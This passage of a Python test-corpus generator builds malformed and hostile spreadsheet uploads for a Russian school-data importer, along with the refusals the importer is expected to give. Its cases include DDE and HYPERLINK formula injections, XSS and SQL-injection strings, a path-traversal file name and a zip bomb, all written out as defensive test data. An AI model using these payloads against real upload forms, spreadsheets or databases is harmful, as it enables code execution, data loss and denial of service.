        RESULTS_CSV,
        b"\xef\xbb\xbf" + results_text(careless, newline="\r\n"),
        cells=[(3, "логин школы")],
        note="a BOM and Windows line ends",
    )
    add(
        RESULTS,
        "cp1251_csv",
        EXCLUDED,
        RESULTS_CSV,
        results_text(careless, encoding="cp1251"),
        cells=[(3, "логин школы")],
        note="Windows-1251",
    )
    add(
        RESULTS,
        "comma_csv",
        EXCLUDED,
        RESULTS_CSV,
        results_text(careless, delimiter=","),
        cells=[(3, "логин школы")],
        note="commas",
    )
    add(
        RESULTS,
        "blank_lines_csv",
        EXCLUDED,
        RESULTS_CSV,
        results_text(careless[:1]) + b"\n\n" + csv_bytes(careless[1:]),
        cells=[(5, "логин школы")],
        note="blank lines between the rows (row numbers must count them)",
    )
    reordered = [REGIONAL_HEADER[::-1], *[r[::-1] for r in careless]]
    add(
        RESULTS,
        "columns_reordered",
        EXCLUDED,
        RESULTS_CSV,
        csv_bytes(reordered),
        cells=[(3, "логин школы")],
        note="the columns in reverse order",
    )
    add(
        RESULTS,
        "shifted_header_xlsx",
        EXCLUDED,
        RESULTS_XLSX,
        xlsx_bytes([["Выгрузка ФИС ОКО"], [], [None, None], REGIONAL_HEADER, *careless]),
        cells=[(6, "логин школы")],
        note="the header on row 4 under a title and blank rows",
    )
    add(
        RESULTS,
        "cell_types_xlsx",
        EXCLUDED,
        RESULTS_XLSX,
        xlsx_bytes([REGIONAL_HEADER, *[[*(int(v) if v.isdigit() else v for v in r)] for r in careless]]),
        cells=[(3, "логин школы")],
        note="numbers stored as numbers, not text",
    )


def _registry(c: Corpus) -> None:
    header = [
        "логин",
        "полное наименование",
        "краткое наименование",
        "муниципалитет",
        "тип",
        "тип поселения",
        "малокомплектная",
        "4 класс",
        "5 класс",
    ]

    def school(n: int, **values: str) -> list[str]:
        row = {
            "логин": f"sch22{n:04d}",
            "полное наименование": f"Муниципальное бюджетное общеобразовательное учреждение «СОШ № {n}»",
            "краткое наименование": f"МБОУ «СОШ № {n}»",
            "муниципалитет": "Городской округ Северогорск",
            "тип": "СОШ",
            "тип поселения": "город",
            "малокомплектная": "нет",
            "4 класс": "25",
            "5 класс": "24",
        }
        row.update({k.replace("_", " "): v for k, v in values.items()})
        return [row[h] for h in header]

    def rows(*spoiled: list[str]) -> list[list[str]]:
        good = [school(n) for n in (301, 302, 303)]
        return [*good[: 3 - len(spoiled)], *spoiled] if spoiled else good

    def text(body, **kw) -> bytes:
        return csv_bytes([header, *body], **kw)

    name, xname = "реестр.csv", "реестр.xlsx"
    add = c.add
    base = xlsx_bytes([header, *rows()])
    sheet1 = "xl/worksheets/sheet1.xml"
    bomb = SHEET_HEAD + b"<sheetData>" + b" " * 40_000_000 + b"</sheetData></worksheet>"
    add(
        REGISTRY,
        "zip_bomb",
        REFUSED,
        xname,
        replace_parts(base, {sheet1: bomb}, level=9),
        mentions=("FILE_LIMITS_MAX_RATIO",),
    )
    add(
        REGISTRY,
        "huge_declared_range",
        REFUSED,
        xname,
        replace_parts(base, {sheet1: sheet_xml([header], dimension="A1:XFD1048576")}),
        mentions=("FILE_LIMITS_MAX_CELLS",),
    )
    add(
        REGISTRY,
        "sheets_60",
        REFUSED,
        xname,
        xlsx_bytes([header, *rows()], sheets=60),
        mentions=("FILE_LIMITS_MAX_SHEETS",),
    )
    add(
        REGISTRY,
        "columns_200k_csv",
        REFUSED,
        name,
        (";".join(["x"] * 200_000) + "\n").encode(),
        mentions=("FILE_LIMITS_MAX_COLUMNS",),
    )
    add(
        REGISTRY,
        "many_short_lines",
        REFUSED,
        name,
        text([]) + b"x\n" * 30_000,
        settings={"RESULTS_MAX_ROWS": 10_000},
        note="more lines than the row limit",
    )
    add(
        REGISTRY,
        "columns_on_a_later_line",
        REFUSED,
        name,
        text(rows()) + (";".join(["x"] * 200_000) + "\n").encode(),
        mentions=("FILE_LIMITS_MAX_COLUMNS",),
        note="an ordinary header, then a line of 200,000 columns",
    )
    add(REGISTRY, "empty_csv", REFUSED, name, b"")
    add(REGISTRY, "zero_byte_xlsx", REFUSED, xname, b"")
    add(REGISTRY, "garbage_xlsx", REFUSED, xname, GARBAGE)
    add(REGISTRY, "pdf_as_xlsx", REFUSED, xname, PDF)
    add(REGISTRY, "png_as_csv", REFUSED, name, PNG)
    add(REGISTRY, "exe_as_xlsx", REFUSED, xname, EXE)
    add(REGISTRY, "truncated_xlsx", REFUSED, xname, base[: len(base) // 2])
    add(REGISTRY, "password_xlsx", REFUSED, xname, ole_file(["EncryptionInfo", "EncryptedPackage"]))
    add(REGISTRY, "nul_bytes_csv", REFUSED, name, text(rows()).replace(b"\n", b"\x00\n", 2))
    add(
        REGISTRY,
        "utf16_csv",
        REFUSED,
        name,
        "\ufeff".encode("utf-16-le")
        + text(rows(school(304, логин="СОШ 5")), delimiter="\t").decode().encode("utf-16-le"),
        cells=[(4, "логин")],
        note="UTF-16 is read; its bad row is named",
    )
    add(REGISTRY, "unbalanced_quote_csv", REFUSED, name, text(rows()).replace(b"sch220302", b'"sch220302', 1))
    add(REGISTRY, "header_only", REFUSED, name, text([]))
    add(
        REGISTRY,
        "header_missing",
        REFUSED,
        name,
        csv_bytes(rows()),
        mentions=("sch220301",),
        note="rows without a header",
    )
    dup_header = [*header, "логин"]
    add(
        REGISTRY,
        "duplicate_header_column",
        REFUSED,
        name,
        csv_bytes([dup_header, *[[*r, "sch229999"] for r in rows()]]),
        mentions=("логин",),
        note="two «логин» columns",
    )
    for kind, column, value, note in (
        ("formula_full_name", "полное наименование", '=HYPERLINK("http://evil.example","Школа")', "a formula name"),
        ("formula_dde_short_name", "краткое наименование", "+cmd|' /C calc'!A0", "a DDE payload as a name"),
        ("formula_at_municipality", "муниципалитет", "@SUM(1+1)", "an @-formula as the municipality"),
        ("formula_minus_name", "полное наименование", "-2+3+cmd|' /C calc'!A0", "a «-» formula as a name"),
        ("html_name", "полное наименование", "<img src=x onerror=alert(1)>Школа", "markup in a name"),
        ("empty_municipality", "муниципалитет", "", "no municipality"),
        ("empty_full_name", "полное наименование", "   ", "a blank name"),
        ("name_10000_chars", "полное наименование", "Школа " * 1700, "a 10,000-character name"),
        ("name_no_letters", "полное наименование", "12345", "a name without letters"),
        ("malformed_login", "логин", "СОШ №5", "a name as a login"),
        ("sql_login", "логин", "sch220304'; DROP TABLE orgs_school; --", "SQL in a login"),
        ("homoglyph_login", "логин", "s\u0441h220304", "a Cyrillic «с» in a login"),
        ("bad_flag", "малокомплектная", "может быть", "neither yes nor no"),
        ("unknown_type", "тип", "космодром", "an unknown school type"),
        ("unknown_settlement", "тип поселения", "орбита", "an unknown settlement type"),
        ("pupils_superscript", "4 класс", "\u00b2", "«²» as a count"),
        ("pupils_arabic_indic", "4 класс", "\u0663", "«٣» as a count"),
        ("pupils_negative", "4 класс", "-5", "a negative count"),
        ("pupils_fraction", "5 класс", "12,5", "a fractional count"),
        ("pupils_exponent", "5 класс", "1e3", "an exponent"),
        ("pupils_huge", "5 класс", "99999999", "a count no school has"),
    ):
        add(
            REGISTRY,
            kind,
            REFUSED,
            name,
            text(rows(school(304, **{column.replace(" ", "_"): value}))),
            cells=[(4, column)],
            note=note,
        )
    add(
        REGISTRY,
        "formula_cells_xlsx",
        REFUSED,
        xname,
        xlsx_bytes([header, *rows()], formulas={(3, 1): ('=HYPERLINK("http://evil.example","Школа")', "=Школа")}),
        cells=[(4, "полное наименование")],
        note="a real formula cell",
    )
    add(
        REGISTRY,
        "duplicate_login",
        REFUSED,
        name,
        text([*rows(), school(301)]),
        cells=[(5, "логин")],
        note="a login twice",
    )
    add(
        REGISTRY,
        "duplicate_login_case",
        REFUSED,
        name,
        text([*rows(), school(301, логин="SCH220301")]),
        cells=[(5, "логин")],
        note="a login twice, in another case",
    )
    add(
        REGISTRY,
        "other_region_login",
        EXCLUDED,
        name,
        text(rows(school(304, логин="sch540304"))),
        cells=[(4, None)],
        note="a school of another region: left out and listed",
    )
    add(
        REGISTRY,
        "mixed_delimiters",
        REFUSED,
        name,
        text(rows()[:2]) + csv_bytes([school(305)], delimiter=","),
        cells=[(4, "логин")],
        note="the last row separated by commas",
    )
    careless = rows(school(304, логин="sch540304"))
    add(
        REGISTRY,
        "bom_crlf_csv",
        EXCLUDED,
        name,
        b"\xef\xbb\xbf" + text(careless, newline="\r\n"),
        cells=[(4, None)],
        note="a BOM and Windows line ends",
    )
    add(
        REGISTRY,
        "cp1251_csv",
        EXCLUDED,
        name,
        text(careless, encoding="cp1251"),
        cells=[(4, None)],
        note="Windows-1251",
    )
    add(
        REGISTRY,
        "blank_lines_csv",
        EXCLUDED,
        name,
        csv_bytes([header]) + b"\n\n" + csv_bytes(careless),
        cells=[(6, None)],
        note="blank lines under the header (row numbers must count them)",
    )
    add(
        REGISTRY,
        "name_path_traversal",
        REFUSED,
        "passwd.csv",
        text(rows(school(304, логин="СОШ 5"))),
        upload_name="../../../../etc/passwd.csv",
        cells=[(4, "логин")],
        note="a name climbing out of the folder",
    )


def _schedule(c: Corpus) -> None:
    header = ["Логин", "Предмет", "Класс", "Дата"]
    good = [["sch220001", "Математика", "4А", "15.04.2025"], ["sch220002", "Русский язык", "5Б", "17.04.2025"]]

    def text(*bad: Sequence[str], **kw) -> bytes:
        return csv_bytes([header, *good, *bad], **kw)

    name = "график.csv"
    add = c.add
    base = xlsx_bytes([header, *good])
    bomb = SHEET_HEAD + b"<sheetData>" + b" " * 40_000_000 + b"</sheetData></worksheet>"
    add(
        SCHEDULE,
        "zip_bomb",
        REFUSED,
        "график.xlsx",
        replace_parts(base, {"xl/worksheets/sheet1.xml": bomb}, level=9),
        mentions=("FILE_LIMITS_MAX_RATIO",),
    )
    add(
        SCHEDULE,
        "columns_200k_csv",
        REFUSED,
        name,
        (";".join(["x"] * 200_000) + "\n").encode(),
        mentions=("FILE_LIMITS_MAX_COLUMNS",),
    )
    add(SCHEDULE, "empty_csv", REFUSED, name, b"")
    add(SCHEDULE, "garbage_xlsx", REFUSED, "график.xlsx", GARBAGE)
    add(SCHEDULE, "exe_as_csv", REFUSED, name, EXE)
    add(SCHEDULE, "header_only", REFUSED, name, csv_bytes([header]))
    add(SCHEDULE, "header_missing", REFUSED, name, csv_bytes(good), mentions=("sch220001",))
    for kind, bad, column, note in (
        ("impossible_date", ["sch220001", "Математика", "4Б", "31.02.2025"], "Дата", "31 February"),
        ("not_leap_day", ["sch220001", "Математика", "4Б", "29.02.2025"], "Дата", "29 February of 2025"),
        ("date_two_digit_year", ["sch220001", "Математика", "4Б", "15.04.69"], "Дата", "«69» read as 1969"),
        ("date_far_future", ["sch220001", "Математика", "4Б", "15.04.2205"], "Дата", "a typo: 2205"),
        ("date_formula", ["sch220001", "Математика", "4Б", "=TODAY()"], "Дата", "a formula as the date"),
        ("date_excel_serial_text", ["sch220001", "Математика", "4Б", "45762"], "Дата", "a day number as text"),
        ("grade_zero", ["sch220001", "Математика", "0", "15.04.2025"], "Класс", "grade 0"),
        ("grade_twelve", ["sch220001", "Математика", "12А", "15.04.2025"], "Класс", "grade 12"),
        ("grade_not_vpr", ["sch220001", "Математика", "9А", "15.04.2025"], "Класс", "ВПР is not written in 9"),
        ("grade_sql", ["sch220001", "Математика", "4А'; DROP TABLE x; --", "15.04.2025"], "Класс", "SQL as a class"),
        ("class_100k", ["sch220001", "Математика", "4" + "А" * 100_000, "15.04.2025"], "Класс", "a 100 KB class"),
        ("unknown_subject", ["sch220001", "Астрология", "4Б", "15.04.2025"], "Предмет", "an unknown subject"),
        (
            "subject_formula",
            ["sch220001", '=HYPERLINK("http://evil.example","Математика")', "4Б", "15.04.2025"],
            "Предмет",
            "a formula as the subject",
        ),
        ("login_formula", ["=1+1", "Математика", "4Б", "15.04.2025"], "Логин", "a formula as the login"),
        ("login_other_region", ["sch540001", "Математика", "4Б", "15.04.2025"], "Логин", "another region's school"),
        ("login_html", ["<script>alert(1)</script>", "Математика", "4Б", "15.04.2025"], "Логин", "markup as login"),
    ):
        add(SCHEDULE, kind, REFUSED, name, text(bad), cells=[(4, column)], note=note)
    add(
        SCHEDULE,
        "procedure_grade_mismatch",
        REFUSED,
        name,
        csv_bytes(
            [
                [*header, "Процедура"],
                *[[*g, "ВПР"] for g in good],
                ["sch220001", "Математика", "4Б", "15.04.2025", "ЕГЭ"],
            ]
        ),
        cells=[(4, "Класс")],
        note="ЕГЭ in grade 4",
    )
    add(
        SCHEDULE,
        "unknown_procedure",
        REFUSED,
        name,
        csv_bytes([[*header, "Процедура"], ["sch220001", "Математика", "4Б", "15.04.2025", "ЕНТ"]]),
        cells=[(2, "Процедура")],
        note="an unknown procedure",
    )
    add(
        SCHEDULE,
        "formula_cells_xlsx",
        REFUSED,
        "график.xlsx",
        xlsx_bytes(
            [header, *good, ["sch220001", "Математика", "4Б", None]], formulas={(3, 3): ("=TODAY()+1", "=TODAY()+1")}
        ),
        cells=[(4, "Дата")],
        note="a real formula cell as the date",
    )
    add(
        SCHEDULE,
        "cp1251_crlf",
        REFUSED,
        name,
        text(["sch220001", "Математика", "4Б", "31.02.2025"], encoding="cp1251", newline="\r\n"),
        cells=[(4, "Дата")],
        note="Windows-1251, Windows line ends, one bad row",
    )
    add(
        SCHEDULE,
        "utf16_csv",
        REFUSED,
        name,
        "\ufeff".encode("utf-16-le")
        + text(["sch220001", "Математика", "4Б", "31.02.2025"], delimiter="\t").decode().encode("utf-16-le"),
        cells=[(4, "Дата")],
        note="UTF-16 is read; its bad row is named",
    )
    add(
        SCHEDULE,
        "blank_lines_csv",
        REFUSED,
        name,
        csv_bytes([header, *good]) + b"\n\n" + csv_bytes([["sch220001", "Математика", "4Б", "31.02.2025"]]),
        cells=[(6, "Дата")],
        note="blank lines before the bad row (row numbers must count them)",
    )
    add(
        SCHEDULE,
        "name_path_traversal",
        REFUSED,
        "passwd.csv",
        text(["sch220001", "Математика", "4Б", "завтра"]),
        upload_name="../../../../etc/passwd.csv",
        cells=[(4, "Дата")],
        note="a name climbing out of the folder",
    )


BUILDERS: tuple[Callable[[Corpus], None], ...] = (_results, _registry, _schedule)


def build(folder: Path) -> list[Case]:
    """Write every file of the corpus under `folder` (one sub-folder per case) and return the cases."""
    corpus = Corpus(Path(folder))
    for builder in BUILDERS:
        builder(corpus)
    ids = [case.id for case in corpus.cases]
    if len(ids) != len(set(ids)):
        raise ValueError("case names repeat")
    return corpus.cases


def main(argv: list[str]) -> int:
    if len(argv) != 1:
        print("usage: python scripts/make_hostile_corpus.py OUT_DIR", file=sys.stderr)
        return 2
    out = Path(argv[0])
    cases = build(out)
    (out / "cases.json").write_text(
        json.dumps([asdict(case) for case in cases], ensure_ascii=False, indent=1), encoding="utf-8"
    )
    by_target: dict[str, int] = {}
    for case in cases:
        by_target[case.target] = by_target.get(case.target, 0) + 1
    print(f"{len(cases)} files in {out}: " + ", ".join(f"{t} {n}" for t, n in sorted(by_target.items())))
    return 0


if __name__ == "__main__":
    sys.exit(main(sys.argv[1:]))
